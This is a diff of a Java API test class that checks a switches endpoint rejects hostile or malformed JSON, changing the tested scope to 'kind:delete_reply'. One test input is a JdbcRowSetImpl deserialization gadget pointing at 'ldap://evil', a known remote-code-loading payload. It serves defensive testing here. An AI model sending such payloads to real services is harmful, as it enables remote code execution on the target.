@@ -433,7 +433,7 @@ class AttacksTest {
                 "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil\"}]",
             })
     void a_switch_is_not_turned_by_what_is_half_or_twice_or_of_another_type(String body) {
-        String scope = "account:meta:" + UUID.randomUUID();
+        String scope = "kind:delete_reply";
         Response answer = given().contentType("application/json").body(body).put("/api/switches/" + scope);
 
         assertThat(answer.statusCode()).isIn(400, 422);
@@ -462,7 +462,7 @@ class AttacksTest {
         byte[] broken = "{\"on\":true,\"reason\":\"\u00ff\"}".getBytes(StandardCharsets.ISO_8859_1);
         given().contentType("application/json")
                 .body(broken)
-                .put("/api/switches/account:meta:" + UUID.randomUUID())
+                .put("/api/switches/kind:delete_reply")
                 .then()
                 .statusCode(org.hamcrest.Matchers.oneOf(400, 422));
     }
